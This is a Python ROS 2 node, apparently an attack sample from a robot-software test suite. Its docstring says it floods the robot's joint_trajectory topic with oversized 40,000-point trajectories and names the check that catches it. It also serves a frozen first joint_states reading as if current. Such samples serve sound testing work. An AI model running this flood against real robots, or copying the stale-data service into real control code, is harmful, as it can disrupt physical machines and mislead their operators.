"""Attack: sends trajectories of 40,000 points to the robot without end, so that its time stands still and its first joint_states
stays its last.
Outcome: the robot looks at the length of a message before it unpacks it, and goes on; one that is too large is the failure.
Caught by: server_appears
"""

import rclpy
from humanoid_interfaces.srv import GetJointPositions
from rclpy.executors import ExternalShutdownException
from rclpy.node import Node
from rclpy.qos import qos_profile_sensor_data
from rclpy.serialization import serialize_message
from sensor_msgs.msg import JointState
from trajectory_msgs.msg import JointTrajectory, JointTrajectoryPoint

POINTS = 40_000


class JointQuery(Node):
    def __init__(self):
        super().__init__("joint_query")
        self.last = None
        self.create_subscription(JointState, "joint_states", self.on_joint_states, qos_profile_sensor_data)
        self.flood = self.create_publisher(JointTrajectory, "joint_trajectory", 10)
        message = JointTrajectory(joint_names=["none"], points=[JointTrajectoryPoint()] * POINTS)
        self.bytes = serialize_message(message)
        self.create_timer(0.05, lambda: self.flood.publish(self.bytes))
        self.create_service(GetJointPositions, "get_joint_positions", self.on_request)

    def on_joint_states(self, message):
        if self.last is None:
            self.last = message

    def on_request(self, request, response):
        if self.last is None:
            response.message = "no joint_states has arrived yet"
            return response
        positions = dict(zip(self.last.name, self.last.position))
        names = request.names or self.last.name
        unknown = [name for name in names if name not in positions]
        if unknown:
            response.message = f"unknown joints: {', '.join(unknown)}"
            return response
        response.success = True
        response.joint_state.header = self.last.header
        response.joint_state.name = list(names)
        response.joint_state.position = [positions[name] for name in names]
        return response


def main(args=None):
    rclpy.init(args=args)
    node = JointQuery()
    try:
        rclpy.spin(node)
    except (KeyboardInterrupt, ExternalShutdownException):
        pass
    finally:
        node.destroy_node()
        rclpy.try_shutdown()


if __name__ == "__main__":
    main()
